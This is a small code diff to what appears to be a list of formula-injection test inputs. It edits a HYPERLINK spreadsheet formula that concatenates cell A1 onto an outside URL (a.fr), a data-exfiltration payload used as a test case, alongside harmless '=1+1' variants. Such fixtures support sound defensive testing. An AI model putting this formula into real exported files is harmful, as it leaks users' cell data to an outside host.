@@ -10,7 +10,7 @@ export const FORMULAS = [
   '\t=1+1',
   '\r\n=1+1',
   "'=1+1",
-  '=HYPERLINK("http://exemple.fr?"&A1;"Voir")',
+  '=HYPERLINK("http://a.fr?"&A1;"Ici")',
 ] as const;
 
 export const TEXTS = [
